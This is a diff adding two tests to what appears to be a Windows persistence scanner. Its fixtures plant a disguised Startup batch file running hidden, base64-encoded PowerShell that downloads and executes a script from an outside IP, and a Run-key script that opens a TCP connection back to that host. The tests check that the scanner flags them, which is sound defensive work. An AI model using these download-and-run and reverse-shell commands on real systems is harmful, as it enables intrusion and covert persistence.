@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -143,3 +144,42 @@ def test_disk_without_system_hive(tmp_path: Path) -> None:
     assert coverage["windows.services"].status is CoverageStatus.FAILED
     assert "config\\SYSTEM" in coverage["windows.services"].reason
     assert coverage["windows.remote"].status is not CoverageStatus.OK
+
+
+def test_startup_batch_file_with_hidden_encoded_powershell(tmp_path: Path) -> None:
+    # The .bat in the all-users Startup folder is judged by what it runs, not by its name.
+    root = windows_root(tmp_path)
+    inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"
+    blob = base64.b64encode(inner.encode("utf-16-le")).decode()
+    startup = root / "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"
+    (startup / "OneDrive Sync.bat").write_bytes(
+        f"@echo off\r\npowershell -w hidden -nop -enc {blob}\r\n".encode()
+    )
+    report = scan(root)
+    by_id = {f.id: f for f in report.findings}
+    encoded = by_id["SC-SCRIPT-ENCODED-POWERSHELL"]
+    assert encoded.severity is Severity.HIGH
+    evidence = encoded.evidence[0]
+    assert evidence.path is not None and evidence.path.endswith("StartUp\\OneDrive Sync.bat")
+    assert evidence.line == 2
+    assert evidence.command is not None and evidence.command.startswith("decoded: IEX")
+    assert "SC-SCRIPT-HIDDEN-WINDOW" in by_id
+    assert "SC-SCRIPT-DOWNLOAD-RUN" in by_id  # what the decoded text does
+
+
+def test_run_key_runs_a_utf16_powershell_script(tmp_path: Path) -> None:
+    root = windows_root(tmp_path)
+    plant(
+        root / "Users/alice/NTUSER.DAT",
+        {
+            "Software\\Microsoft\\Windows\\CurrentVersion\\Run": {
+                "Sync": "string:powershell.exe -File C:\\Users\\alice\\AppData\\Roaming\\s.ps1"
+            }
+        },
+    )
+    script = root / "Users/alice/AppData/Roaming/s.ps1"
+    script.parent.mkdir(parents=True, exist_ok=True)
+    body = "\ufeff$c = New-Object Net.Sockets.TCPClient('198.51.100.9',443);$s = $c.GetStream()"
+    script.write_bytes(body.encode("utf-16-le"))  # as Windows PowerShell ISE saves it
+    found = [f for f in scan(root).findings if f.id == "SC-SCRIPT-REVERSE-SHELL"]
+    assert found and found[0].evidence[0].path == "C:\\Users\\alice\\AppData\\Roaming\\s.ps1"
